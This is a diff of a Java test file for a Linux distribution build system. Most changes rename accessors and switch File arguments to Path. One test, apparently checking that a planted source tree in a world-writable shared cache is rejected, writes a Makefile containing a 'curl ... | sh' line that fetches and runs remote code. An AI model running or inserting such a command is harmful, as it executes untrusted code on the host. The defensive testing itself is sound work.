@@ -83,7 +83,7 @@ class DistroBuildTest {
 
     private Map<String, String> keys(DistroBuild b) throws Exception {
         return b.userlandPlan(Arch.X86_64, "musl sysroot test").stream()
-                .collect(Collectors.toMap(p -> p.component().getName(), UserlandBuilder.Prepared::key));
+                .collect(Collectors.toMap(p -> p.component().name(), UserlandBuilder.Prepared::key));
     }
 
     @Test
@@ -149,7 +149,7 @@ class DistroBuildTest {
                 "the same kernel inputs: the base's kernel comes from the build cache");
         Path frag = Files.writeString(tmp.resolve("dummy.config"), "CONFIG_DUMMY=y\n");
         DistroDefinition withFragment = new Derivation(List.of(), List.of(), List.of(),
-                List.of(new KconfigFragment(null, frag.toFile())), null, List.of(), List.of(), null).applyTo(base);
+                List.of(new KconfigFragment(null, frag)), null, List.of(), List.of(), null).applyTo(base);
         assertNotEquals(build(base, tmp.resolve("base"), TS).kernelInputs(Arch.X86_64, linux),
                 build(withFragment, tmp.resolve("derived"), TS).kernelInputs(Arch.X86_64, linux));
     }
@@ -158,7 +158,7 @@ class DistroBuildTest {
     void fragmentsAreMergedIntoTheLayoutsKconfigFileRewrittenOnlyWhenItChanges() throws Exception {
         Path frag = Files.writeString(tmp.resolve("dummy.config"), "CONFIG_DUMMY=y\n");
         DistroDefinition d = new Derivation(List.of(), List.of(), List.of(),
-                List.of(new KconfigFragment("x86_64", frag.toFile())), null, List.of(), List.of(), null)
+                List.of(new KconfigFragment("x86_64", frag)), null, List.of(), List.of(), null)
                 .applyTo(declared(tmp.resolve("a"), "p1"));
         DistroBuild b = build(d, tmp.resolve("work"), TS);
         Path merged = b.kconfigFile(Arch.X86_64);
@@ -212,11 +212,11 @@ class DistroBuildTest {
         Source pkg = source("pkg");
         Path shared = Files.createDirectories(tmp.resolve("shared"));
         Files.setPosixFilePermissions(shared, java.nio.file.attribute.PosixFilePermissions.fromString("rwxrwxrwx"));
-        Path planted = shared.resolve("src").resolve("pkg-1.0-" + pkg.getSha256().substring(0, 12));
+        Path planted = shared.resolve("src").resolve("pkg-1.0-" + pkg.sha256().substring(0, 12));
         Files.createDirectories(planted.resolve("pkg-1.0"));
         Files.writeString(planted.resolve("pkg-1.0/Makefile"), "all:\n\tcurl -s https://example.org/x | sh\n");
         for (String marker : List.of(".puipui-extracted", ".puipui-extracted-2")) {
-            Files.writeString(planted.resolve(marker), pkg.getSha256() + "\n");
+            Files.writeString(planted.resolve(marker), pkg.sha256() + "\n");
         }
         for (Path p : List.of(shared.resolve("src"), planted, planted.resolve("pkg-1.0"), planted.resolve("pkg-1.0/Makefile"))) {
             Files.setAttribute(p, "unix:uid", 4242);
